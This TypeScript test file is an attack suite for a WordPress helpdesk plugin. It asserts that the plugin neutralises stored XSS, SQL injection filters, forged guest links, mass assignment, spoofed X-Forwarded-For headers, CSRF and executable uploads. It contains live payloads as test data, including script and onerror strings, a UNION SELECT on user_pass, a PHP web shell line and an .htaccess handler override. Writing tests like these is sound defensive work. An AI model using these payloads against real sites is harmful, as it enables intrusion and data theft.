/**
 * Internal dependencies
 */
import { SERVICES_PHP } from '../harness/php-services';
import type { Session } from '../harness/site';
import { PNG, uploadForm as form } from '../harness/uploads';
import { useSite } from '../harness/use-site';

/**
 * The attack suite: each case names the class of vulnerability it guards (the classes helpdesk
 * plugins have shipped: stored XSS, SQL injection through list filters, forgeable guest links,
 * mass assignment, CSRF on staff actions, executable uploads). The cases that need no HTTP run in
 * one PHP batch through WordPress's REST server; CSRF and uploads go over HTTP, as attackers do.
 */

const XSS_BODIES: Record< string, string > = {
	'a script element': '<p>Hi</p><script>alert(1)</script>',
	'an onerror handler': '<img src=x onerror=alert(1)>',
	'a javascript: link': '<a href="javascript:alert(1)">site</a>',
	'an SVG onload': '<svg onload=alert(1)><circle r=1 /></svg>',
	'an iframe': '<iframe src="https://evil.example/"></iframe>',
	'a style with a script URL':
		'<p style="background:url(javascript:alert(1))">x</p>',
	'a data: URL link':
		'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
	'mutation XSS through math and style':
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'an object element': '<object data="https://evil.example/x.swf"></object>',
	'an event attribute on an allowed tag':
		'<p onmouseover="alert(1)">hover me</p>',
	'an entity-encoded javascript: link':
		'<a href="&#106;avascript:alert(1)">x</a>',
	'a form posting elsewhere':
		'<form action="https://evil.example/"><input name="pw"></form>',
};

/** Anything that can run script or load active content, in a stored body. */
const ACTIVE =
	/<script|<iframe|<svg|<object|<embed|<form|<style|<math|\son\w+\s*=|javascript:|data:text|&#0*106;/i;

const SQL_FILTERS: Record< string, { query: string; status: number } > = {
	'a sort key with a statement': {
		query: 'orderby=created;DROP%20TABLE%20wp_users',
		status: 400,
	},
	'a sort direction with a subquery': {
		query: 'order=asc,(SELECT%201)',
		status: 400,
	},
	'a status with a quote': {
		query: 'status[]=open%27%20OR%20%271%27=%271',
		status: 400,
	},
	'a numeric filter with OR': {
		query: 'assignee_id=1%20OR%201=1',
		status: 400,
	},
	'a customer filter closing a parenthesis': {
		query: 'customer_id=0)%20OR%20(1=1',
		status: 400,
	},
	'a page size beyond the limit': { query: 'per_page=1000000', status: 400 },
	'a negative page': { query: 'page=-1', status: 400 },
	'a search with a quote and a comment': {
		query: 'search=%25%27%20OR%201=1%20--%20',
		status: 200,
	},
	'a search with a UNION': {
		query: 'search=%5C%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users%20--%20',
		status: 200,
	},
};

const BATCH_PHP = `
	${ SERVICES_PHP }
	global $wpdb;
	$xss      = json_decode( base64_decode( '%XSS%' ), true );
	$sql      = json_decode( base64_decode( '%SQL%' ), true );
	$customer = $new_user( 'subscriber' );
	$tech     = $new_user( 'wp24hd_technician' );
	$request  = static function ( string $method, string $path, array $body = array(), array $headers = array() ) {
		$parts   = explode( '?', $path, 2 );
		$request = new WP_REST_Request( $method, $parts[0] );
		if ( isset( $parts[1] ) ) {
			parse_str( $parts[1], $query );
			$request->set_query_params( $query );
		}
		if ( $body ) {
			$request->set_header( 'Content-Type', 'application/json' );
			$request->set_body( wp_json_encode( $body ) );
		}
		foreach ( $headers as $name => $value ) {
			$request->set_header( $name, $value );
		}
		$response = rest_do_request( $request );
		return array( 'status' => $response->get_status(), 'data' => $response->get_data() );
	};
	$own = static fn() => $intakes->intake( new WP24\\Helpdesk\\Tickets\\Intake( $customer, 'Attack target', 'The contact form of the site does not send.', WP24\\Helpdesk\\Tickets\\Ticket_Type::ONE_SHOT, WP24\\Helpdesk\\Tickets\\Ticket_Priority::NORMAL, '', '', true ) )['ticket'];
	$out = array();

	// Stored XSS: what a customer writes is stored through the allow-list and read back inert.
	wp_set_current_user( $customer );
	$ticket = $own();
	foreach ( $xss as $name => $body ) {
		$sent = $request( 'POST', '/wp24-helpdesk/v1/tickets/' . $ticket->id() . '/messages', array( 'body' => $body ) );
		$row  = $wpdb->get_var( $wpdb->prepare( 'SELECT body FROM %i WHERE ticket_id = %d ORDER BY id DESC LIMIT 1', WP24\\Helpdesk\\Schema\\Tables::messages(), $ticket->id() ) );
		$read = $request( 'GET', '/wp24-helpdesk/v1/tickets/' . $ticket->id() . '/messages' );
		$out['xss'][ $name ] = array( 'status' => $sent['status'], 'stored' => (string) $row, 'read' => wp_json_encode( $read['data'] ) );
	}
	// A subject is plain text: tags never reach storage, and the email escapes what is left.
	$mails();
	$made = $request( 'POST', '/wp24-helpdesk/v1/tickets', array( 'subject' => 'Help <script>alert(1)</script> me', 'message' => 'The contact form of the site does not send.', 'type' => 'one-shot', 'consent' => true ) );
	$out['subject'] = array( 'status' => $made['status'], 'subject' => $made['data']['subject'] ?? '', 'mails' => wp_json_encode( $mails() ) );

	// SQL injection through the queue's filters, as a technician.
	wp_set_current_user( $tech );
	$wpdb->last_error = '';
	foreach ( $sql as $name => $case ) {
		$answer = $request( 'GET', '/wp24-helpdesk/v1/tickets?' . $case['query'] );
		$out['sql'][ $name ] = array( 'status' => $answer['status'], 'body' => wp_json_encode( $answer['data'] ), 'db_error' => $wpdb->last_error );
	}
	$users = $request( 'GET', '/wp24-helpdesk/v1/customers?search=%25%25' );
	$out['customers_wildcard'] = array( 'status' => $users['status'], 'count' => is_array( $users['data'] ) ? count( $users['data'] ) : -1 );
	$out['users_table'] = (int) $wpdb->get_var( "SELECT COUNT(*) FROM {$wpdb->users}" ) > 0;

	// Guest links: only the exact key of this ticket opens it, and it never signs anyone in.
	wp_set_current_user( 0 );
	$a   = $intakes->intake( new WP24\\Helpdesk\\Tickets\\Intake( 0, 'Guest A', 'The contact form of the site does not send.', WP24\\Helpdesk\\Tickets\\Ticket_Type::ONE_SHOT, WP24\\Helpdesk\\Tickets\\Ticket_Priority::NORMAL, '', '', true, 'Guest A', 'a@example.test' ) );
	$b   = $intakes->intake( new WP24\\Helpdesk\\Tickets\\Intake( 0, 'Guest B', 'The contact form of the site does not send.', WP24\\Helpdesk\\Tickets\\Ticket_Type::ONE_SHOT, WP24\\Helpdesk\\Tickets\\Ticket_Priority::NORMAL, '', '', true, 'Guest B', 'b@example.test' ) );
	$key = $a['guest_key'];
	$path = '/wp24-helpdesk/v1/tickets/' . $a['ticket']->id();
	$keys = array(
		'no key'                   => null,
		'an empty key'             => '',
		'64 zeros'                 => str_repeat( '0', 64 ),
		'the key in capitals'      => strtoupper( $key ),
		'the key one character short' => substr( $key, 0, 63 ),
		'another guest’s key'      => $b['guest_key'],
		'the key with SQL appended' => $key . "' OR '1'='1",
	);
	foreach ( $keys as $name => $value ) {
		$wpdb->query( "DELETE FROM {$wpdb->options} WHERE option_name LIKE '%wp24hd_rl_%'" );
		$out['keys'][ $name ] = $request( 'GET', $path, array(), null === $value ? array() : array( 'X-WP24-Ticket-Key' => $value ) )['status'];
	}
	$right = $request( 'GET', $path, array(), array( 'X-WP24-Ticket-Key' => $key ) );
	$out['right_key'] = array( 'status' => $right['status'], 'user' => get_current_user_id(), 'stored_plain' => (int) $wpdb->get_var( $wpdb->prepare( 'SELECT COUNT(*) FROM %i WHERE guest_key_hash = %s', WP24\\Helpdesk\\Schema\\Tables::tickets(), $key ) ) );
	// A link lives guest_link_days (180 by default) after the ticket's last activity.
	$fresh_key = static fn() => $request( 'GET', $path, array(), array( 'X-WP24-Ticket-Key' => $key ) )['status'];
	$travel( 'P179D' );
	$out['link_age']['179 days'] = $fresh_key();
	$travel( 'P181D' );
	$out['link_age']['181 days'] = $fresh_key();
	$settings->update( array( 'guest_link_days' => 0 ) );
	$out['link_age']['181 days, links kept'] = $fresh_key();
	$settings->update( array( 'guest_link_days' => 30 ) );
	$out['link_age']['181 days, 30-day links'] = $fresh_key();
	$settings->update( array( 'guest_link_days' => 180 ) );
	$travel_back();

	// Mass assignment: a customer may close their ticket, nothing else; intake ignores or refuses the rest.
	wp_set_current_user( $customer );
	$fields = array(
		'the assignee'          => array( 'assignee_id' => $tech ),
		'the priority'          => array( 'priority' => 'urgent' ),
		'the coverage'          => array( 'coverage' => 'not_covered', 'coverage_reason' => 'x' ),
		'a status other than closed' => array( 'status' => 'open' ),
	);
	$ticket_row = static fn( int $id ) => $wpdb->get_row( $wpdb->prepare( 'SELECT * FROM %i WHERE id = %d', WP24\\Helpdesk\\Schema\\Tables::tickets(), $id ), ARRAY_A );
	foreach ( $fields as $name => $change ) {
		$target = $own();
		$before = $ticket_row( $target->id() );
		$answer = $request( 'PATCH', '/wp24-helpdesk/v1/tickets/' . $target->id(), $change );
		$out['patch'][ $name ] = array( 'status' => $answer['status'], 'unchanged' => $ticket_row( $target->id() ) === $before );
	}
	$noted = $own();
	$note  = $request( 'POST', '/wp24-helpdesk/v1/tickets/' . $noted->id() . '/messages', array( 'body' => '<p>I am staff now</p>', 'internal' => true ) );
	$out['internal_note'] = array( 'status' => $note['status'], 'internal' => (int) $wpdb->get_var( $wpdb->prepare( 'SELECT COUNT(*) FROM %i WHERE ticket_id = %d AND internal = 1 AND author_id = %d', WP24\\Helpdesk\\Schema\\Tables::messages(), $noted->id(), $customer ) ) );
	wp_set_current_user( 0 );
	$forged = $request( 'POST', '/wp24-helpdesk/v1/tickets', array( 'subject' => 'Forged fields', 'message' => 'The contact form of the site does not send.', 'type' => 'one-shot', 'consent' => true, 'name' => 'Eve', 'email' => 'eve@example.test', 'status' => 'closed', 'customer_id' => 1, 'assignee_id' => 1, 'consent_at' => '2000-01-01 00:00:00', 'consent_version' => 'forged', 'coverage' => 'covered', 'priority' => 'normal' ) );
	$out['forged_intake'] = array( 'status' => $forged['status'], 'params' => array_keys( $forged['data']['data']['params'] ?? array() ), 'stored' => (int) $wpdb->get_var( $wpdb->prepare( 'SELECT COUNT(*) FROM %i WHERE subject = %s', WP24\\Helpdesk\\Schema\\Tables::tickets(), 'Forged fields' ) ) );
	$plain = $request( 'POST', '/wp24-helpdesk/v1/tickets', array( 'subject' => 'Plain fields', 'message' => 'The contact form of the site does not send.', 'type' => 'one-shot', 'consent' => true, 'name' => 'Eve', 'email' => 'eve3@example.test', '_locale' => 'user' ) );
	$out['plain_intake'] = $plain['status'];
	wp_set_current_user( $customer );
	$extra = $own();
	$out['extra_on_reply'] = $request( 'POST', '/wp24-helpdesk/v1/tickets/' . $extra->id() . '/messages', array( 'body' => '<p>Thanks</p>', 'author_id' => $tech, 'created_at' => '2000-01-01 00:00:00' ) );
	$out['extra_on_close'] = $request( 'PATCH', '/wp24-helpdesk/v1/tickets/' . $extra->id(), array( 'status' => 'closed', 'closed_at' => '2000-01-01 00:00:00' ) );
	$out['extra_after']    = $repo->find( $extra->id() )->status->value;
	wp_set_current_user( 0 );
	$string_consent = $request( 'POST', '/wp24-helpdesk/v1/tickets', array( 'subject' => 'String consent', 'message' => 'The contact form of the site does not send.', 'type' => 'one-shot', 'consent' => 'no', 'name' => 'Eve', 'email' => 'eve2@example.test' ) );
	$out['string_consent'] = $string_consent['status'];

	// Rate limits key on the client IP: X-Forwarded-For counts only from the owner's own proxies.
	$ip = static function ( string $remote, string $forwarded ) {
		$_SERVER['REMOTE_ADDR']          = $remote;
		$_SERVER['HTTP_X_FORWARDED_FOR'] = $forwarded;
		return WP24\\Helpdesk\\Security\\Rate_Limiter::client_ip();
	};
	$out['ip']['forged header, no proxy configured'] = $ip( '203.0.113.7', '198.51.100.1' );
	add_filter( 'wp24hd_trusted_proxies', static fn() => array( '10.0.0.0/8', '2001:db8::1' ) );
	$out['ip']['through a trusted proxy']               = $ip( '10.1.2.3', '198.51.100.1' );
	$out['ip']['a spoofed hop before the real client']  = $ip( '10.1.2.3', '6.6.6.6, 198.51.100.1, 10.9.9.9' );
	$out['ip']['a header from an untrusted address']    = $ip( '203.0.113.7', '198.51.100.1' );
	$out['ip']['garbage in the header']                 = $ip( '10.1.2.3', "198.51.100.1' OR 1=1" );
	$out['ip']['an IPv6 trusted proxy']                 = $ip( '2001:db8::1', '2001:db8::beef' );
	echo wp_json_encode( $out );
`;

const SVG =
	'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';

const UPLOADS: Array< [ string, string, Buffer | string ] > = [
	[ 'a .phtml script', 'page.phtml', '<?php echo "owned";' ],
	[
		'an .htaccess file',
		'.htaccess',
		'AddType application/x-httpd-php .png',
	],
	[ 'a .user.ini file', '.user.ini', 'auto_prepend_file=shell.png' ],
	[ 'an SVG image with script', 'logo.svg', SVG ],
	[ 'SVG disguised as PNG', 'logo.png', SVG ],
	[ 'PHP disguised as text', 'notes.txt', '<?php system($_GET["c"]); ?>' ],
	[
		'HTML disguised as a log',
		'error.log',
		'<!DOCTYPE html><html><script>alert(1)</script></html>',
	],
	[
		'PHP disguised as JPEG with a double extension',
		'photo.php.jpg',
		Buffer.concat( [
			Buffer.from( [ 0xff, 0xd8, 0xff, 0xe0 ] ),
			Buffer.from( '<?php echo 1;' ),
		] ),
	],
	[ 'a JavaScript file', 'app.js', 'alert(1)' ],
	[ 'a PHP 5 script', 'old.php5', '<?php echo 1;' ],
];

describe( 'the attack suite', () => {
	const site = useSite();
	let batch: any;
	let customer: Session;
	let tech: Session;
	let ticketId: number;
	let uploads: Promise< Record< string, { status: number; code: string } > >;

	beforeAll( async () => {
		const encode = ( value: unknown ) =>
			Buffer.from( JSON.stringify( value ) ).toString( 'base64' );
		batch = await site().phpJson(
			BATCH_PHP.replace( '%XSS%', encode( XSS_BODIES ) ).replace(
				'%SQL%',
				encode( SQL_FILTERS )
			)
		);
		const c = await site().createUser( 'subscriber' );
		const t = await site().createUser( 'wp24hd_technician' );
		customer = await site().loginAs( c.login, c.password );
		tech = await site().loginAs( t.login, t.password );
		ticketId = (
			await customer.rest( '/wp24-helpdesk/v1/tickets', {
				json: {
					subject: 'Upload target',
					message: 'The contact form of the site does not send.',
					type: 'one-shot',
					consent: true,
				},
			} )
		).json().id;
		// The disguised files go up side by side (the site serves two requests at once).
		uploads = Promise.all(
			UPLOADS.map( async ( [ , name, content ] ) => {
				const answer = await customer.rest(
					`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`,
					{ multipart: form( [ name, content ] ) }
				);
				return [
					name,
					{ status: answer.status, code: answer.json().code },
				] as const;
			} )
		).then( ( entries ) => Object.fromEntries( entries ) );
		await uploads;
	} );

	it.each( Object.keys( XSS_BODIES ) )(
		'[stored XSS] a message body with %s is stored and read back without active content',
		( name ) => {
			const { status, stored, read } = batch.xss[ name ];
			// Stored through the allow-list, or refused when nothing but the attack was written.
			expect( [ 201, 400 ] ).toContain( status );
			expect( stored ).not.toMatch( ACTIVE );
			expect( read ).not.toMatch( ACTIVE );
		}
	);

	it( '[stored XSS] a subject with tags is stored as plain text and escaped in the email', () => {
		expect( batch.subject.status ).toBe( 201 );
		expect( batch.subject.subject ).not.toMatch( /<|>/ );
		expect( batch.subject.mails ).not.toMatch( /<script/i );
	} );

	it.each( Object.keys( SQL_FILTERS ) )(
		'[SQL injection] the queue refuses or neutralises %s',
		( name ) => {
			const { status, body, db_error: dbError } = batch.sql[ name ];
			expect( status ).toBe( SQL_FILTERS[ name ].status );
			expect( dbError ).toBe( '' );
			expect( body ).not.toMatch(
				/SQL syntax|database error|user_pass|\$P\$|\$wp\$|\$2y\$/i
			);
			if ( status === 200 ) {
				expect( JSON.parse( body ) ).toEqual( [] );
			}
		}
	);

	it( '[SQL injection] a % in the customer search is a character, not a wildcard', () => {
		expect( batch.customers_wildcard ).toEqual( { status: 200, count: 0 } );
		expect( batch.users_table ).toBe( true );
	} );

	it.each( [
		'no key',
		'an empty key',
		'64 zeros',
		'the key in capitals',
		'the key one character short',
		'another guest’s key',
		'the key with SQL appended',
	] )(
		'[forged guest link] %s opens nothing: the same 404 as a missing ticket',
		( name ) => {
			expect( batch.keys[ name ] ).toBe( 404 );
		}
	);

	it( '[forged guest link] the right key opens the ticket, signs no one in, and is not stored as is', () => {
		expect( batch.right_key ).toEqual( {
			status: 200,
			user: 0,
			stored_plain: 0,
		} );
	} );

	it( '[forged guest link] an old link expires: the key opens nothing once the ticket has been quiet longer than the setting', () => {
		expect( batch.link_age ).toEqual( {
			'179 days': 200,
			'181 days': 404,
			'181 days, links kept': 200,
			'181 days, 30-day links': 404,
		} );
	} );

	it( '[rate-limit evasion] a forged X-Forwarded-For never changes the client IP; only trusted proxies are looked through', () => {
		expect( batch.ip ).toEqual( {
			'forged header, no proxy configured': '203.0.113.7',
			'through a trusted proxy': '198.51.100.1',
			'a spoofed hop before the real client': '198.51.100.1',
			'a header from an untrusted address': '203.0.113.7',
			'garbage in the header': '10.1.2.3',
			'an IPv6 trusted proxy': '2001:db8::beef',
		} );
	} );

	it.each( [
		'the assignee',
		'the priority',
		'the coverage',
		'a status other than closed',
	] )(
		'[mass assignment] a customer cannot change %s of their ticket',
		( name ) => {
			expect( batch.patch[ name ].status ).toBeGreaterThanOrEqual( 400 );
			expect( batch.patch[ name ].status ).toBeLessThan( 500 );
			expect( batch.patch[ name ].unchanged ).toBe( true );
		}
	);

	it( '[mass assignment] a customer cannot write an internal note', () => {
		expect( [ 400, 403 ] ).toContain( batch.internal_note.status );
		expect( batch.internal_note.internal ).toBe( 0 );
	} );

	it( '[mass assignment] intake refuses forged status, owner, assignee and consent time, naming them', () => {
		expect( batch.forged_intake ).toEqual( {
			status: 400,
			params: [
				'assignee_id',
				'consent_at',
				'consent_version',
				'coverage',
				'customer_id',
				'status',
			],
			stored: 0,
		} );
		// WordPress's own underscore parameters are not fields.
		expect( batch.plain_intake ).toBe( 201 );
	} );

	it( '[mass assignment] a reply or a close carrying undeclared fields is refused whole', () => {
		expect( batch.extra_on_reply.status ).toBe( 400 );
		expect(
			Object.keys( batch.extra_on_reply.data.data.params ).sort()
		).toEqual( [ 'author_id', 'created_at' ] );
		expect( batch.extra_on_close.status ).toBe( 400 );
		expect( batch.extra_after ).not.toBe( 'closed' );
	} );

	it( '[consent forgery] consent must be the boolean true', () => {
		expect( batch.string_consent ).toBe( 400 );
	} );

	it( '[CSRF] a signed-in customer’s write without the REST nonce is refused and stores nothing', async () => {
		const before = (
			await customer.rest(
				`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`
			)
		).json().length;
		const forged = await customer.request(
			`/?rest_route=/wp24-helpdesk/v1/tickets/${ ticketId }/messages`,
			{ json: { body: '<p>Written by another site</p>' } }
		);
		// Without the nonce the cookie signs no one in: the ticket is not theirs to see.
		expect( [ 401, 403, 404 ] ).toContain( forged.status );
		const after = (
			await customer.rest(
				`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`
			)
		).json().length;
		expect( after ).toBe( before );
	} );

	it( '[CSRF] a technician’s change with another user’s nonce is refused', async () => {
		const answer = await tech.request(
			`/?rest_route=/wp24-helpdesk/v1/tickets/${ ticketId }`,
			{
				method: 'PATCH',
				json: { priority: 'urgent' },
				headers: { 'X-WP-Nonce': customer.nonce },
			}
		);
		expect( answer.status ).toBe( 403 );
		expect( answer.json().code ).toBe( 'rest_cookie_invalid_nonce' );
	} );

	it.each( UPLOADS )(
		'[executable upload] %s (%s) is refused',
		async ( _label, name ) => {
			const answer = ( await uploads )[ name ];
			expect( answer.status ).toBe( 400 );
			expect( answer.code ).toBe( 'wp24hd_file_type' );
		}
	);

	it( '[executable upload] a GIF carrying PHP is kept under a random name and only ever downloaded', async () => {
		const polyglot = Buffer.concat( [
			Buffer.from( 'GIF89a' ),
			Buffer.from( [ 1, 0, 1, 0, 0, 0, 0 ] ),
			Buffer.from( '<?php echo "owned"; ?>' ),
		] );
		const sent = await customer.rest(
			`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`,
			{ multipart: form( [ 'x.gif', polyglot ] ) }
		);
		expect( sent.status ).toBe( 201 );
		const thread = (
			await customer.rest(
				`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`
			)
		).json();
		const file = thread
			.flatMap( ( m: { attachments: any[] } ) => m.attachments )
			.find( ( a: { file_name: string } ) => a.file_name === 'x.gif' );
		const stored = await site().phpJson< { name: string } >( `
			global $wpdb;
			echo wp_json_encode( array( 'name' => $wpdb->get_var( $wpdb->prepare( 'SELECT stored_name FROM %i WHERE id = %d', WP24\\Helpdesk\\Schema\\Tables::attachments(), ${ Number( file.id ) } ) ) ) );
		` );
		expect( stored.name ).toMatch( /^[a-f0-9]{40}$/ );
		const download = await customer.rest(
			`/wp24-helpdesk/v1/tickets/${ ticketId }/attachments/${ file.id }`
		);
		expect( download.status ).toBe( 200 );
		expect( download.headers.get( 'content-disposition' ) ).toMatch(
			/^attachment;/
		);
		expect( download.headers.get( 'x-content-type-options' ) ).toBe(
			'nosniff'
		);
		expect( download.headers.get( 'content-type' ) ).not.toMatch(
			/html|php|javascript/
		);
	} );

	it( '[executable upload] a file name carrying HTML is stored as a harmless name', async () => {
		const sent = await customer.rest(
			`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`,
			{ multipart: form( [ '"><img src=x onerror=alert(1)>.png', PNG ] ) }
		);
		expect( sent.status ).toBe( 201 );
		const names = (
			await customer.rest(
				`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`
			)
		)
			.json()
			.flatMap( ( m: { attachments: Array< { file_name: string } > } ) =>
				m.attachments.map( ( a ) => a.file_name )
			);
		expect( names.join( ' ' ) ).not.toMatch( /[<>"]/ );
	} );

	it( '[upload flooding] more files than a message may carry are refused', async () => {
		const six = Array.from(
			{ length: 6 },
			( _, i ) => [ `shot-${ i }.png`, PNG ] as [ string, Buffer ]
		);
		const answer = await customer.rest(
			`/wp24-helpdesk/v1/tickets/${ ticketId }/messages`,
			{ multipart: form( ...six ) }
		);
		expect( answer.status ).toBe( 400 );
	} );
} );
